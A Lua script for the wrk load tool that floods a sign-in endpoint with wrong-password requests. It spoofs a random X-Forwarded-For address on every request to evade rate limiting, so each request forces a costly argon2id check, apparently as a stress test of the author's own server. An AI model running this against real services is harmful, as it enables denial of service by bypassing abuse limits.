-- A sign-in flood for wrk: every request a wrong password for a made-up email
-- from a new client address (X-Forwarded-For, the server trusts it here), so
-- no limit ever refuses it and each one costs the server an argon2id check.
-- CAIRN_COOKIE and CAIRN_CSRF carry one visitor's cookie and form token.
local cookie = os.getenv("CAIRN_COOKIE")
local csrf = os.getenv("CAIRN_CSRF")
local n = 0

request = function()
  n = n + 1
  local address = string.format("10.%d.%d.%d", math.random(0, 255), math.random(0, 255),
                                math.random(1, 254))
  local body = "email=guess" .. n .. "%40example.org&password=wrong+guess+" .. n ..
               "&csrf_token=" .. csrf
  return wrk.format("POST", "/account/sign-in", {
    ["Content-Type"] = "application/x-www-form-urlencoded",
    ["Cookie"] = cookie,
    ["X-Forwarded-For"] = address,
  }, body)
end
